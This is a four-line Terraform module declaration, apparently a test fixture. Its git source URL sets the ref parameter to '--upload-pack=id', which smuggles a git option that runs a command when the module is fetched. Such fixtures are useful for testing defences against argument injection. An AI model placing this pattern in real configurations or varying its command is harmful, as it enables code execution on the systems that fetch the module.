module "m" {
  source = "git::https://github.com/acme/terraform-modules.git//db?ref=--upload-pack=id"
}
